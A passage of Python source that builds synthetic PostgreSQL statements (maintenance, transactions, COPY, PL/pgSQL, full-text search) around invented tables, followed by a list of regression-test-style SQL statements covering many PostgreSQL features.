        rows = ", ".join("(%s, %s)" % (q("RB-%05d" % r.randint(0, 99999)), q(r.choice(["Norfolk", "Danube", "Camargue", "Turkish"]))) for _ in range(r.randint(2, 6)))
        return "INSERT INTO reed_bundles (bundle_code, origin) VALUES %s ON CONFLICT (bundle_code) DO NOTHING RETURNING bundle_code" % rows

    # ---- maintenance and admin
    @add("cx14_maint", "complex_maintenance_admin")
    def _(r):
        t = r.choice(["sap_collections", "rope_break_tests", "display_firing_cues", "saddle_fittings", "hatchery_water_samples", "trial_runs", "wp_yurt_bookings"])
        return r.choice(["VACUUM (VERBOSE, ANALYZE) %s" % t, "ANALYZE VERBOSE %s" % t, "REINDEX TABLE CONCURRENTLY %s" % t, "CLUSTER %s USING %s_pkey" % (t, t),
                         "ALTER TABLE %s SET (autovacuum_vacuum_scale_factor = 0.0%d)" % (t, r.randint(1, 9)),
                         "SELECT relname, last_autovacuum, n_live_tup FROM pg_stat_user_tables WHERE relname = %s" % q(t),
                         "SELECT pg_size_pretty(pg_relation_size(%s)), pg_size_pretty(pg_indexes_size(%s))" % (q(t), q(t)),
                         "SELECT phase, heap_blks_scanned, heap_blks_total FROM pg_stat_progress_vacuum WHERE relid = %s::regclass" % q(t)])

    @add("cx14_admin_settings", "complex_maintenance_admin")
    def _(r):
        return r.choice(["SET work_mem = '%dMB'" % r.choice([16, 64, 256]), "SHOW statement_timeout", "SET idle_in_transaction_session_timeout = '%ds'" % r.choice([30, 60, 300]),
                         "SELECT name, setting, unit FROM pg_settings WHERE name IN ('shared_buffers', 'work_mem', 'maintenance_work_mem')", "RESET work_mem",
                         "SET application_name = %s" % q(r.choice(["sugar-ingest", "reed-yard", "pyro-planner"]))])

    # ---- transactions
    @add("cx14_tx_job_queue", "complex_transactions")
    def _(r):
        return r.choice([
            "BEGIN; SELECT boil_id FROM evaporator_boil_queue WHERE status = 'waiting' ORDER BY queued_at LIMIT %d FOR UPDATE SKIP LOCKED; UPDATE evaporator_boil_queue SET status = 'boiling' WHERE boil_id = %d; COMMIT" % (r.randint(1, 5), r.randint(1, 9000)),
            "BEGIN ISOLATION LEVEL READ COMMITTED; SELECT pg_advisory_xact_lock(hashtext(%s)); COMMIT" % q("show:%d" % r.randint(1, 900)),
            "SAVEPOINT before_marking; UPDATE calf_markings SET marked_by = %s WHERE calf_id = %d; RELEASE SAVEPOINT before_marking" % (q(r.choice(PEOPLE)), r.randint(1, 9000)),
            "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY", "COMMIT WORK AND CHAIN",
            "SELECT * FROM truffle_lots WHERE lot_code = %s FOR NO KEY UPDATE NOWAIT" % q("TL-%04d" % r.randint(0, 9999)),
            "LOCK TABLE display_site_permits IN SHARE ROW EXCLUSIVE MODE NOWAIT"])

    @add("cx14_prepared", "complex_parameterized")
    def _(r):
        return r.choice(["PREPARE shells_by_effect(text, int) AS SELECT shell_code FROM pyro_shell_inventory WHERE effect = $1 AND calibre_mm <= $2",
                         "EXECUTE shells_by_effect(%s, %d)" % (q(r.choice(SHELLS)), r.choice([50, 75, 100])), "DEALLOCATE shells_by_effect",
                         "PREPARE bookings_for(int, daterange) AS SELECT booking_id FROM wp_yurt_bookings WHERE yurt_id = $1 AND stay && $2"])

    # ---- COPY
    @add("cx14_copy", "complex_copy_stdin")
    def _(r):
        return r.choice(["COPY sap_collections (tap_id, litres, collected_at) FROM STDIN WITH (FORMAT csv, HEADER match, NULL '')",
                         "COPY (SELECT shell_code, qty FROM transport_manifests WHERE manifest_no = %s) TO STDOUT WITH (FORMAT csv, DELIMITER ';', FORCE_QUOTE (shell_code))" % q("TM-2025-%04d" % r.randint(0, 9999)),
                         "COPY hatchery_water_samples FROM STDIN (FORMAT text, FREEZE false, ENCODING 'UTF8')",
                         "COPY reindeer (id, ear_mark, born_year) FROM STDIN WITH (FORMAT csv, FORCE_NOT_NULL (ear_mark))",
                         "COPY (SELECT * FROM trial_runs WHERE trial_id = %d ORDER BY points DESC) TO STDOUT WITH (FORMAT csv, HEADER)" % r.randint(1, 400),
                         "COPY carousel_horses TO STDOUT (FORMAT binary)"])

    # ---- introspection
    @add("cx14_introspection", "complex_orm_introspection")
    def _(r):
        t = r.choice(["PhilatelicLot", "Bid", "reindeer", "trial_runs", "wp_yurt_bookings"])
        return r.choice([
            "select * from information_schema.tables where table_catalog = $1 and table_schema = $2 and table_name = $3 and table_type = 'BASE TABLE'",
            "SELECT c.relname, a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), a.attidentity, a.attgenerated FROM pg_catalog.pg_attribute a JOIN pg_catalog.pg_class c ON c.oid = a.attrelid WHERE c.relname = %s AND a.attnum > 0 AND NOT a.attisdropped" % q(t),
            "SELECT t.typname, e.enumlabel FROM pg_type t JOIN pg_enum e ON e.enumtypid = t.oid JOIN pg_namespace n ON n.oid = t.typnamespace WHERE n.nspname = 'public' ORDER BY t.typname, e.enumsortorder",
            "SELECT con.conname, pg_get_constraintdef(con.oid, true) FROM pg_constraint con WHERE con.conrelid = %s::regclass AND con.contype IN ('f', 'x')" % q('"%s"' % t if t[0].isupper() else t)])

    # ---- PL/pgSQL bodies
    @add("cx14_plpgsql", "complex_plpgsql_body")
    def _(r):
        return r.choice([
            "CREATE OR REPLACE FUNCTION brix_to_grade(b numeric) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN RETURN CASE WHEN b >= %d THEN 'syrup' ELSE 'sap' END; END $f$" % r.choice([66, 67]),
            "CREATE OR REPLACE FUNCTION notify_cue() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM pg_notify('cues', NEW.cue_no::text); RETURN NEW; END $$",
            "DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'shell_effect') THEN CREATE TYPE shell_effect AS ENUM ('peony', 'willow'); END IF; END $$",
            "CREATE OR REPLACE PROCEDURE close_auction(a int) LANGUAGE plpgsql AS $p$ BEGIN UPDATE philatelic_lots SET closed = true WHERE auction_id = a; COMMIT; END $p$",
            "CREATE OR REPLACE FUNCTION yurt_nights(b daterange) RETURNS int LANGUAGE sql IMMUTABLE RETURN upper(b) - lower(b)",
            "CREATE OR REPLACE FUNCTION set_updated_at() RETURNS trigger LANGUAGE plpgsql AS $t$ BEGIN NEW.updated_at := clock_timestamp(); RETURN NEW; END $t$",
            "CREATE OR REPLACE FUNCTION herd_size(s text) RETURNS bigint LANGUAGE plpgsql STABLE AS $$ DECLARE n bigint; BEGIN SELECT count(*) INTO n FROM reindeer WHERE siida = s; RETURN n; END $$"])

    # ---- search
    @add("cx14_search", "complex_search_complex")
    def _(r):
        w = r.choice(["crown", "anchor", "script", "multiple crown", "star"])
        return r.choice([
            "SELECT id, ts_headline('english', description, websearch_to_tsquery('english', %s)) FROM watermarks WHERE to_tsvector('english', description) @@ websearch_to_tsquery('english', %s) LIMIT 10" % (q(w), q(w)),
            "SELECT dog_id, note FROM hunting_dog_notes WHERE note_tsv @@ phraseto_tsquery('simple', %s) ORDER BY ts_rank_cd(note_tsv, phraseto_tsquery('simple', %s)) DESC LIMIT 5" % (q(w), q(w))])
    return G


# ---------------------------------------------------------------- regression-test-style statements
REGRESS_FIXED = [
 ("select_distinct_on", "SELECT DISTINCT ON (string4) string4, two, ten FROM onek ORDER BY string4 USING <, two USING >, ten USING <"),
 ("select_distinct_on", "SELECT DISTINCT ON (string4, ten) string4, ten, two FROM onek ORDER BY string4 USING <, ten USING >, two USING <"),
 ("select_distinct", "SELECT DISTINCT two, string4, ten FROM onek ORDER BY two USING <, string4 USING <, ten USING <"),
 ("select_distinct", "SELECT 1 IS DISTINCT FROM 2 AS yes, 2 IS DISTINCT FROM NULL AS yes2, NULL IS NOT DISTINCT FROM NULL AS yes3"),
 ("tablesample", "CREATE TABLE test_tablesample14 (id int, name text) WITH (fillfactor = 10)"),
 ("tablesample", "SELECT t.id FROM test_tablesample14 AS t TABLESAMPLE SYSTEM (50) REPEATABLE (0)"),
 ("tablesample", "SELECT id FROM test_tablesample14 TABLESAMPLE BERNOULLI (5.5) REPEATABLE (14)"),
 ("tablesample", "SELECT count(*) FROM test_tablesample14 TABLESAMPLE SYSTEM (100)"),
 ("tablesample", "EXPLAIN (COSTS OFF) SELECT * FROM test_tablesample14 TABLESAMPLE BERNOULLI (10) REPEATABLE (0) WHERE id > 5"),
 ("merge", "MERGE INTO sq_target14 t USING (SELECT * FROM sq_source14) s ON tid = sid WHEN MATCHED AND t.balance > delta THEN UPDATE SET balance = t.balance + delta"),
 ("merge", "MERGE INTO wq_target14 t USING wq_source14 s ON t.tid = s.sid WHEN NOT MATCHED AND s.balance > 100 THEN INSERT (tid, balance) VALUES (s.sid, s.balance)"),
 ("merge", "MERGE INTO target14 AS t USING (VALUES (1, 10), (4, 40)) AS s(sid, delta) ON t.tid = s.sid WHEN MATCHED THEN UPDATE SET balance = balance + s.delta WHEN NOT MATCHED THEN INSERT DEFAULT VALUES"),
 ("merge", "MERGE INTO target14 t USING source14 s ON t.tid = s.sid WHEN MATCHED AND s.delta IS NULL THEN DELETE WHEN MATCHED THEN DO NOTHING"),
 ("limit", "SELECT thousand FROM onek WHERE thousand < 7 ORDER BY thousand FETCH FIRST 3 ROWS WITH TIES"),
 ("limit", "SELECT ten, thousand FROM onek WHERE thousand < 4 ORDER BY thousand DESC FETCH NEXT 1 ROW WITH TIES"),
 ("limit", "SELECT thousand FROM onek WHERE thousand < 5 ORDER BY thousand OFFSET 2 ROWS FETCH NEXT 3 ROWS ONLY"),
 ("limit", "SELECT unique1 FROM tenk1 ORDER BY unique1 LIMIT ALL OFFSET 9990"),
 ("limit", "SELECT * FROM int8_tbl LIMIT (CASE WHEN random() < 0.5 THEN NULL::bigint END)"),
 ("update", "UPDATE update_test14 t SET (a, b) = (SELECT b, a FROM update_test14 s WHERE s.a = t.a) WHERE CURRENT_USER = SESSION_USER"),
 ("update", "UPDATE update_test14 AS t SET b = v.b FROM (VALUES (5, 10), (6, 12)) AS v(a, b) WHERE t.a = v.a RETURNING t.*"),
 ("update", "UPDATE update_test14 SET (c, b) = ROW('bugle', b + 11) WHERE c = 'foo' RETURNING b, c"),
 ("insert", "INSERT INTO inserttest14 (f3, f1) SELECT 'x', g FROM generate_series(1, 3) g WHERE NOT EXISTS (SELECT 1 FROM inserttest14 WHERE f1 = g)"),
 ("insert", "INSERT INTO inserttest14 VALUES (DEFAULT, DEFAULT, 'test'), (DEFAULT, 5, DEFAULT)"),
 ("insert", "INSERT INTO inserttest14 (f2[1], f2[2]) VALUES (1, 2)"),
 ("delete", "DELETE FROM delete_test14 dt WHERE dt.a > 75 RETURNING a, char_length(b)"),
 ("delete", "DELETE FROM delete_test14 USING delete_other14 o WHERE delete_test14.a = o.a AND o.flag"),
 ("returning", "INSERT INTO foo14 SELECT f1 + 10, f2, f3 + 99 FROM foo14 RETURNING *, f1 + 112 IN (SELECT q1 FROM int8_tbl) AS subplan, EXISTS (SELECT * FROM int4_tbl) AS initplan"),
 ("advisory_lock", "SELECT pg_advisory_xact_lock(1), pg_advisory_xact_lock_shared(2), pg_advisory_xact_lock(1, 1), pg_advisory_xact_lock_shared(2, 2)"),
 ("advisory_lock", "SELECT locktype, classid, objid, objsubid, mode, granted FROM pg_locks WHERE locktype = 'advisory' ORDER BY classid, objid, objsubid"),
 ("advisory_lock", "SELECT pg_try_advisory_lock(1), pg_try_advisory_lock_shared(2), pg_advisory_unlock_all()"),
 ("async", "SELECT pg_notify('notify_async1', 'sample message1')"),
 ("async", "SELECT pg_notify('notify_async_channel_name_too_long______________________________', 'sample_message1')"),
 ("async", "NOTIFY notify_async2"),
 ("async", "LISTEN notify_async2"),
 ("async", "UNLISTEN notify_async2"),
 ("async", "SELECT pg_notification_queue_usage() BETWEEN 0 AND 1"),
 ("guc", "SET datestyle = 'SQL, European'"),
 ("guc", "SET LOCAL vacuum_cost_delay TO 40"),
 ("guc", "SELECT set_config('datestyle', 'Postgres, MDY', true), current_setting('datestyle')"),
 ("guc", "SET SESSION datestyle TO 'German'"),
 ("guc", "SELECT current_setting('nosuch.setting', true)"),
 ("guc", "SET custom.my_var = 'value with spaces'"),
 ("guc", "RESET intervalstyle"),
 ("guc", "SET search_path TO public, pg_catalog"),
 ("jsonpath", "SELECT jsonb_path_query('[1, 2, 3, 4]', 'lax $[*] ? (@ >= $min && @ <= $max)', '{\"min\": 2, \"max\": 3}')"),
 ("jsonpath", "SELECT jsonb_path_query('{\"a\": [{\"b\": 1}, {\"b\": 2}]}', 'strict $.a[*].b ? (@ > 1)')"),
 ("jsonpath", "SELECT jsonb_path_query_array('[1, \"a\", null, true]', '$[*].type()')"),
 ("jsonpath", "SELECT jsonb_path_exists('{\"a\": \"abc\"}', '$.a ? (@ starts with \"ab\")'), jsonb_path_match('[1]', 'exists($[*] ? (@ == 1))')"),
 ("jsonpath", "SELECT jsonb_path_query('\"2025-03-01 12:34:56\"', '$.datetime(\"YYYY-MM-DD HH24:MI:SS\")')"),
 ("jsonpath", "SELECT jsonb_path_query('[1.4, 2.5, -3.9]', '$[*].floor()'), jsonb_path_query('{\"x\": 12}', '$.x.double() * 2')"),
 ("jsonpath", "SELECT '$ ? (@.a[*] like_regex \"^b.*c$\" flag \"is\")'::jsonpath, 'last - 1'::jsonpath"),
 ("jsonb", "SELECT '{\"a\": 1, \"b\": [1, 2]}'::jsonb ?| ARRAY['b', 'c'], '{\"a\": 1}'::jsonb ?& ARRAY['a'], '{\"a\": {\"b\": 2}}'::jsonb #>> '{a,b}'"),
 ("jsonb", "SELECT jsonb_each_text('{\"f1\": [1, 2, 3], \"f2\": {\"f3\": 1}}')"),
 ("jsonb", "SELECT jsonb_object_keys('{\"a1\": 1, \"a2\": {\"b\": 2}, \"a3\": null}') ORDER BY 1"),
 ("jsonb", "SELECT jsonb_build_object('a', 1, 'b', ARRAY[1, 2], 'c', NULL::text) -> 'b' ->> 1"),
 ("jsonb", "SELECT ('{\"a\": 1}'::jsonb)['a'], ('[10, 20, 30]'::jsonb)[1]"),
 ("json", "SELECT json_agg(q ORDER BY x) FROM (SELECT x, x * 2 AS q FROM generate_series(1, 4) x) s"),
 ("json", "SELECT json_object_agg(k, v ORDER BY k) FROM (VALUES ('p', 1.5), ('q', NULL)) t(k, v)"),
 ("json", "SELECT row_to_json(r) FROM (SELECT 1 AS a, 'x' AS b) r"),
 ("json", "SELECT json_populate_record(NULL::jpop14, '{\"a\": \"blurfl\", \"x\": 43.2}')"),
 ("json", "SELECT * FROM json_to_record('{\"a\": 1, \"b\": \"foo\", \"c\": \"bar\"}') AS x(a int, b text, d text)"),
 ("multirangetypes", "SELECT '{[1,2), [3,4)}'::int4multirange, '{}'::nummultirange, range_agg(r) FROM (VALUES (int4range(1, 3)), (int4range(5, 8))) v(r)"),
 ("multirangetypes", "SELECT int4multirange(int4range(1, 5)) - int4multirange(int4range(2, 3)), nummultirange() @> 1.5"),
 ("multirangetypes", "SELECT '{[2025-01-01,2025-02-01)}'::datemultirange * '{[2025-01-15,2025-03-01)}'::datemultirange"),
 ("rangetypes", "SELECT numrange(1.0, 14.0, '(]') @> 14.0, '[1,5)'::int4range << '[6,9)'::int4range, int8range(10, 20) &< int8range(15, 25)"),
 ("rangetypes", "SELECT tstzrange('2025-01-01 00:00+00', '2025-01-02 00:00+00') && tstzrange('2025-01-01 12:00+00', NULL)"),
 ("rangetypes", "SELECT daterange('2025-01-01', '2025-01-31', '[]') - daterange('2025-01-10', '2025-01-20')"),
 ("rangetypes", "SELECT lower(int4range(NULL, 5)), upper_inc(int4range(1, 5, '[]')), range_merge('[1,2)'::int4range, '[4,6)'::int4range)"),
 ("strings", "SELECT regexp_count('ABCABCAXYaxy', 'A.', 1, 'i'), regexp_instr('abcabc', 'b', 1, 2), regexp_substr('abcabc', 'c.', 1, 1)"),
 ("strings", "SELECT regexp_like('Steven', '^Ste(v|ph)en$'), regexp_like('abc', 'B', 'i')"),
 ("strings", "SELECT 'hello' ^@ 'he', starts_with('hello', 'lo'), 'abc' COLLATE \"C\" < 'abd'"),
 ("strings", "SELECT split_part('joeuser@mydatabase', '@', -1), split_part('a,b,c', ',', -3)"),
 ("strings", "SELECT 'a' || 1 || true, concat('one', NULL, 2), concat_ws('|', 'a', NULL, 'c')"),
 ("strings", "SELECT E'\\\\x41', U&'d\\0061t\\+000061', 'Bell''s' AS quoted, $$dollar 'quoted'$$"),
 ("strings", "SELECT 'abcdef' SIMILAR TO '%(b|d)%', 'abcd' SIMILAR TO '(a|d)%' ESCAPE '#', substring('Thomas' similar '%#\"o_a#\"_' escape '#')"),
 ("strings", "SELECT lpad('hi', 5, 'xy'), rpad('hi', 5, 'xy'), btrim('xyxtrimyyx', 'xyz'), ltrim('zzzytest', 'xyz')"),
 ("arrays", "SELECT ('{{1,2,3},{4,5,6},{7,8,9}}'::int[])[1:2][2], ('{1,2,3,4,5}'::int[])[:3], ('{1,2,3,4,5}'::int[])[4:]"),
 ("arrays", "SELECT ARRAY[1, 2] || ARRAY[[3, 4]], array_cat(ARRAY[[1, 2]], ARRAY[3, 4]), array_ndims(ARRAY[[1], [2]])"),
 ("arrays", "SELECT 3 = ANY('{1,2,3}'::int[]), 4 <> ALL(ARRAY[1, 2, 3]), 'abc' = ANY('{abc,def}'::text[])"),
 ("arrays", "SELECT array_position(ARRAY['sun', 'mon', 'tue'], 'mon'), array_positions(ARRAY[1, 4, 3, 1], 1), cardinality('{{1,2},{3,4}}'::int[])"),
 ("arrays", "UPDATE arrtest14 SET a[1:2] = '{16,25}' WHERE NOT a = '{}'::int2[]"),
 ("case", "SELECT CASE WHEN 1 = 0 THEN 1 / 0 WHEN 1 = 1 THEN 1 ELSE 2 / 0 END, CASE 'a' WHEN 'b' THEN 1 END"),
 ("case", "SELECT NULLIF(1, 2), NULLIF('a', 'a') IS NULL, COALESCE(NULL, NULL, 3, 4)"),
 ("collate", "SELECT a, b FROM collate_test14 ORDER BY b COLLATE \"C\""),
 ("collate", "SELECT 'bbc' COLLATE \"C\" > 'Abc' COLLATE \"C\" AS \"true\", 'Abc' < 'bbc' COLLATE \"POSIX\""),
 ("collate", "CREATE TABLE collate_test14 (a int, b text COLLATE \"C\" NOT NULL)"),
 ("horology", "SELECT (timestamp '2025-01-01 10:00', interval '2 hours') OVERLAPS (timestamp '2025-01-01 11:00', timestamp '2025-01-01 13:00')"),
 ("horology", "SELECT (date '2000-01-01', date '2000-12-31') OVERLAPS (date '2000-06-01', interval '1 year') AS yes"),
 ("horology", "SELECT timestamp with time zone '2025-03-30 01:59:59+01' + interval '1 minute', date '2025-02-28' + 1"),
 ("horology", "SELECT to_timestamp('2025-07-18 09:30', 'YYYY-MM-DD HH24:MI'), to_date('18 Jul 2025', 'DD Mon YYYY')"),
 ("horology", "SELECT make_date(2025, 7, 18), make_time(9, 30, 5.5), make_interval(weeks => 2, mins => 15)"),
 ("interval", "SELECT interval '1 day' > interval '23 hours', interval '30 days' = interval '1 month', justify_interval(interval '1 mon -1 hour')"),
 ("interval", "SELECT interval 'P1Y2M3DT4H5M6S' * 2, interval '1 hour' / 3, -interval '2 days'"),
 ("window", "SELECT four, ten, sum(ten) OVER (PARTITION BY four ORDER BY ten RANGE BETWEEN 2 PRECEDING AND 2 FOLLOWING) FROM tenk1 WHERE unique1 < 10"),
 ("window", "SELECT unique1, four, sum(unique1) OVER (ORDER BY four GROUPS BETWEEN 1 PRECEDING AND 1 FOLLOWING EXCLUDE GROUP) FROM tenk1 WHERE unique1 < 10"),
 ("window", "SELECT first_value(unique1) OVER w, last_value(unique1) OVER w, nth_value(unique1, 3) OVER w FROM tenk1 WHERE unique1 < 10 WINDOW w AS (ORDER BY unique1 ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING)"),
 ("window", "SELECT lag(ten, 1, 0) OVER (PARTITION BY four ORDER BY ten), lead(ten * 2, 1, -1) OVER (PARTITION BY four ORDER BY ten) FROM tenk1 WHERE unique2 < 10"),
 ("groupingsets", "SELECT a, b, c, count(*) FROM gstest14 GROUP BY GROUPING SETS ((a, b), (a, c), (b), ())"),
 ("groupingsets", "SELECT grouping(a), grouping(b), sum(v) FROM gstest14 GROUP BY ROLLUP (a), CUBE (b)"),
 ("groupingsets", "SELECT a, b, sum(c) FROM (VALUES (1, 1, 10), (1, 2, 20), (2, 2, 30)) v(a, b, c) GROUP BY GROUPING SETS (a, b) ORDER BY a NULLS LAST, b NULLS FIRST"),
 ("subselect", "SELECT * FROM int4_tbl o WHERE (f1, f1) IN (SELECT f1, generate_series(1, 50) / 10 g FROM int4_tbl i GROUP BY f1)"),
 ("subselect", "SELECT ss.f1 FROM int4_tbl, LATERAL (SELECT int4_tbl.f1 WHERE int4_tbl.f1 > 0 LIMIT 1) ss"),
 ("join", "SELECT * FROM tenk1 a JOIN LATERAL (SELECT b.unique1 FROM tenk1 b WHERE b.unique2 = a.unique1 LIMIT 1) x ON true WHERE a.unique1 < 3"),
 ("join", "SELECT t1.q2, count(t2.*) FROM int8_tbl t1 LEFT JOIN (SELECT * FROM int8_tbl) t2 ON (t1.q2 = t2.q1) GROUP BY t1.q2 ORDER BY 1"),
 ("join", "SELECT * FROM int4_tbl a FULL JOIN int4_tbl b ON a.f1 = b.f1 AND a.f1 > 0 WHERE a.f1 IS DISTINCT FROM b.f1"),
 ("with", "WITH RECURSIVE fib(a, b) AS (VALUES (0::numeric, 1::numeric) UNION ALL SELECT b, a + b FROM fib WHERE b < 1000) SELECT a FROM fib"),
 ("with", "WITH w AS NOT MATERIALIZED (SELECT * FROM tenk1) SELECT count(*) FROM w WHERE unique1 = 42"),
 ("with", "WITH t AS (INSERT INTO y14 SELECT generate_series(21, 23) RETURNING *) SELECT * FROM t ORDER BY 1"),
 ("with", "WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x WHERE n < 5) SEARCH BREADTH FIRST BY n SET ord SELECT n, ord FROM x"),
 ("create_view", "CREATE VIEW key_dependent_view14 AS SELECT * FROM view_base_table14 GROUP BY key"),
 ("create_view", "CREATE OR REPLACE TEMP VIEW tt14v AS SELECT a.f1 FROM int4_tbl a WHERE a.f1 IS NOT NULL WITH LOCAL CHECK OPTION"),
 ("create_view", "CREATE VIEW sec_inv14 WITH (security_invoker = true) AS SELECT * FROM tenk1"),
 ("create_table", "CREATE TABLE pt14 (a int, b text) PARTITION BY RANGE (a)"),
 ("create_table", "CREATE TABLE pt14_1 PARTITION OF pt14 FOR VALUES FROM (MINVALUE) TO (100)"),
 ("create_table", "CREATE TABLE pt14_def PARTITION OF pt14 DEFAULT"),
 ("create_table", "CREATE TEMP TABLE tmp14 ON COMMIT DROP AS SELECT unique1, ten FROM tenk1 WHERE ten < 3"),
 ("create_table", "CREATE TABLE uniq14 (a int, b int, UNIQUE NULLS NOT DISTINCT (a, b))"),
 ("create_table_like", "CREATE TABLE ctlt14 (LIKE ctla INCLUDING COMMENTS INCLUDING STORAGE INCLUDING STATISTICS)"),
 ("alter_table", "ALTER TABLE pt14 ATTACH PARTITION pt14_2 FOR VALUES FROM (100) TO (200)"),
 ("alter_table", "ALTER TABLE uniq14 ADD CONSTRAINT uniq14_chk CHECK (a > 0) NOT VALID"),
 ("alter_table", "ALTER TABLE uniq14 ALTER COLUMN b SET DEFAULT 7, ALTER COLUMN b DROP NOT NULL"),
 ("alter_table", "ALTER TABLE uniq14 SET ACCESS METHOD heap"),
 ("alter_table", "ALTER TABLE IF EXISTS nonexistent14 RENAME TO still_nonexistent14"),
 ("foreign_key", "CREATE TABLE fktable14 (ftest1 int REFERENCES pktable14 MATCH FULL ON DELETE SET NULL (ftest1) ON UPDATE CASCADE)"),
 ("foreign_key", "ALTER TABLE fktable14 ADD CONSTRAINT fk14 FOREIGN KEY (ftest1) REFERENCES pktable14 DEFERRABLE INITIALLY DEFERRED"),
 ("generated", "CREATE TABLE gtest14 (a int PRIMARY KEY, b int GENERATED ALWAYS AS (a * 2) STORED)"),
 ("generated", "INSERT INTO gtest14 VALUES (1), (2, DEFAULT)"),
 ("identity", "ALTER TABLE itest14 ALTER COLUMN a SET GENERATED BY DEFAULT SET INCREMENT BY 2 RESTART"),
 ("sequence", "SELECT last_value, log_cnt, is_called FROM seq14"),
 ("sequence", "ALTER SEQUENCE IF EXISTS seq14 OWNED BY NONE MAXVALUE 500 NO CYCLE"),
 ("create_index", "CREATE INDEX onek14_idx ON onek USING btree (unique1 int4_ops DESC NULLS LAST) WITH (deduplicate_items = off)"),
 ("create_index", "CREATE INDEX CONCURRENTLY concur14_idx ON concur_heap (f2, f1) WHERE f1 = 'a'"),
 ("brin", "CREATE INDEX brin14_idx ON brintest USING brin (int8col) WITH (pages_per_range = 16)"),
 ("domain", "CREATE DOMAIN dcheck14 AS varchar(15) CONSTRAINT dcheck14_chk CHECK (VALUE ~ '^[a-z]+$') DEFAULT 'abc'"),
 ("domain", "ALTER DOMAIN dcheck14 ADD CONSTRAINT len_chk CHECK (length(VALUE) > 1) NOT VALID"),
 ("rowtypes", "SELECT ROW(1, 2) < ROW(1, 3) AS t, ROW(1, 2) IS DISTINCT FROM ROW(1, NULL) AS t2, (ROW(1, 'a')::record).f1 IS NULL"),
 ("rowtypes", "SELECT * FROM quadtable14 WHERE (q).c1.r > 1 ORDER BY f1"),
 ("rules", "CREATE RULE rtest14_ins AS ON INSERT TO rtest14_v DO INSTEAD INSERT INTO rtest14_t VALUES (new.a, new.b)"),
 ("prepare", "PREPARE q14(int, text) AS SELECT unique1 FROM tenk1 WHERE unique1 < $1 AND stringu1 = $2"),
 ("prepare", "EXECUTE q14(10, 'AAAAAA')"),
 ("prepare", "DEALLOCATE ALL"),
 ("portals", "DECLARE c14 NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM int8_tbl"),
 ("portals", "FETCH RELATIVE 2 FROM c14"),
 ("portals", "MOVE BACKWARD ALL IN c14"),
 ("transactions", "BEGIN TRANSACTION ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE"),
 ("transactions", "SAVEPOINT one; ROLLBACK TO SAVEPOINT one; RELEASE SAVEPOINT one"),
 ("transactions", "END TRANSACTION AND NO CHAIN"),
 ("explain", "EXPLAIN (FORMAT JSON, COSTS OFF, SUMMARY OFF) SELECT * FROM int8_tbl i8"),
 ("explain", "EXPLAIN (FORMAT XML, COSTS OFF) SELECT unique1 FROM tenk1 WHERE unique1 = 1"),
 ("explain", "EXPLAIN (SETTINGS, COSTS OFF) SELECT 1"),
 ("create_function_sql", "CREATE FUNCTION functest14_s(a int) RETURNS int LANGUAGE sql IMMUTABLE PARALLEL SAFE RETURN a * 2"),
 ("create_function_sql", "CREATE FUNCTION functest14_b(a int) RETURNS SETOF int LANGUAGE sql BEGIN ATOMIC SELECT a + 1; SELECT a + 2; END"),
 ("plpgsql", "CREATE FUNCTION stricttest14() RETURNS void AS $$ DECLARE x record; BEGIN SELECT * FROM tenk1 WHERE unique1 = 1 INTO STRICT x; END $$ LANGUAGE plpgsql"),
 ("plpgsql", "DO $$ BEGIN ASSERT 1 = 1, 'never'; END $$"),
 ("plpgsql", "DO LANGUAGE plpgsql $$ DECLARE n int := 0; BEGIN WHILE n < 3 LOOP n := n + 1; END LOOP; RAISE NOTICE 'n=%', n; END $$"),
 ("triggers", "CREATE TRIGGER trig14 AFTER UPDATE ON main14 REFERENCING OLD TABLE AS old_t NEW TABLE AS new_t FOR EACH STATEMENT EXECUTE PROCEDURE trigger_func14()"),
 ("publication", "CREATE PUBLICATION testpub14 FOR TABLES IN SCHEMA pub_test14 WITH (publish = 'insert')"),
 ("publication", "ALTER PUBLICATION testpub14 ADD TABLE testpub_tbl14 WHERE (a > 10)"),
 ("privileges", "GRANT SET ON PARAMETER work_mem TO regress_priv_user14"),
 ("privileges", "REVOKE SELECT ON ALL TABLES IN SCHEMA public FROM regress_priv_user14"),
 ("privileges", "ALTER DEFAULT PRIVILEGES FOR ROLE regress_priv_user14 REVOKE EXECUTE ON FUNCTIONS FROM PUBLIC"),
 ("misc_functions", "SELECT num_nonnulls(NULL, 1, 'x'), num_nulls(VARIADIC ARRAY[NULL, 2, NULL])"),
 ("misc_functions", "SELECT pg_column_size(ROW(1, 'abc')), pg_typeof(1.5::numeric), pg_typeof(ARRAY[1])"),
 ("misc_functions", "SELECT count(*) > 0 FROM pg_ls_waldir() AS f"),
 ("bit", "SELECT B'1010' & B'0110', B'1010' | B'0101', B'1100' # B'1010', ~ B'1010', B'1010' << 2"),
 ("bit", "SELECT get_bit(B'0101011000100', 10), set_bit(B'0101', 0, 1), bit_count(B'1011'), substring(B'110011' FROM 2 FOR 3)"),
 ("txid", "SELECT pg_current_xact_id() IS NOT NULL, pg_snapshot_xmin(pg_current_snapshot()) IS NOT NULL"),
 ("pg_lsn", "SELECT '0/16AE7F7'::pg_lsn - '0/16AE7F0'::pg_lsn, pg_lsn '16/B374D848' > pg_lsn '16/B374D847'"),
 ("macaddr", "SELECT trunc(macaddr '08:00:2b:01:02:03'), macaddr8_set7bit('00:08:2b:01:02:03:04:05')"),
 ("geometry", "SELECT lseg '[(0,0),(1,1)]' ?# lseg '[(0,1),(1,0)]', circle '((0,0),1)' <-> point '(3,0)', area(box '((0,0),(2,3))')"),
 ("tstypes", "SELECT 'a:1 b:2'::tsvector || 'c:1'::tsvector, 'fat & !cat'::tsquery && 'rat'::tsquery, setweight('a b'::tsvector, 'A')"),
 ("tsearch", "SELECT websearch_to_tsquery('english', '\"fat rat\" or cat -dog'), phraseto_tsquery('english', 'the fat rats')"),
 ("tsearch", "SELECT ts_rank_cd(to_tsvector('english', 'a fat cat sat on a mat'), to_tsquery('english', 'cat <-> sat'))"),
